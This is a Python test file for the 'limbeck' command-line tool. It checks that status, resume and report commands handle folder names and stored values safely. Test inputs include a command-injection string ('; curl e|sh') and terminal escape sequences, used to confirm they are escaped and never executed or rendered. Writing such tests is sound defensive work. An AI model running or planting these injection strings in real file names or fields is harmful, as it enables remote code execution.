"""The verbs about a whole run, in folders of any name; status of every folder."""

import re
import shlex
import shutil
from pathlib import Path
from typing import Any

from typer.testing import CliRunner

import limbeck
from limbeck import chain, fsio
from limbeck.cli import app
from limbeck.reporting import report

NAME = "[/b] [bold]; curl e|sh\x1b[31m it's :skull:"


def invoke(*args: object) -> str:
    result = CliRunner().invoke(app, [str(arg) for arg in args])
    assert result.exit_code == 0, f"{result.output!r}\n{result.exception!r}"
    assert "\x1b" not in result.stderr
    return result.stderr


def test_a_run_in_a_folder_of_any_name(smoke: Any, tmp_path: Path) -> None:
    run = tmp_path / NAME
    shutil.copytree(smoke.run, run)
    stored = fsio.read_json(run / "run.json")
    fsio.write_json(run / "run.json", stored | {"photos": "\x1b[2J; curl e|sh"})
    (line,) = [s for s in invoke("status", run).splitlines() if s.startswith("next: open ")]
    assert r"\x1b[31m" in line
    shutil.rmtree(run / "report")
    plain = tmp_path / "it's [/b]"
    shutil.move(run, plain)
    (line,) = [s for s in invoke("status", plain).splitlines() if s.startswith("next: ")]
    assert shlex.split(line.removeprefix("next: ")) == ["limbeck", "resume", str(plain)]
    assert str(plain) in invoke("report", plain)
    assert str(plain) in invoke("evaluate", plain, "--dry-run")


def test_a_run_says_which_stage_of_how_many(smoke: Any, tmp_path: Path) -> None:
    said = invoke(*smoke.again(tmp_path / "run"))
    assert "stage 1 of 9: data, up to date" in said
    assert "stage 9 of 9: report, up to date" in said


def test_status_describes_any_folder(smoke: Any) -> None:
    assert f"{smoke.run / 'raw'}: a training of the run {smoke.run}" in invoke(
        "status", smoke.run / "raw"
    )


def test_no_message_is_markup() -> None:
    for file in Path(limbeck.__file__).parent.rglob("*.py"):
        text = file.read_text(encoding="utf-8")
        assert "rich.markup" not in text, file
        assert not re.search(r"\[/?(bold|dim|red|green|yellow)\]", text), file


def test_a_report_with_labels_is_a_finished_stage(smoke: Any, tmp_path: Path) -> None:
    run = shutil.copytree(smoke.run, tmp_path / "run")
    report(run, labels=smoke.truth)
    labelled = (run / "report" / "index.html").read_bytes()
    assert {stage.state for stage in chain.status(run)} == {"done"}
    resumed = CliRunner().invoke(app, ["resume", str(run)])
    assert resumed.exit_code == 0, resumed.stderr
    assert (run / "report" / "index.html").read_bytes() == labelled, "not made again"
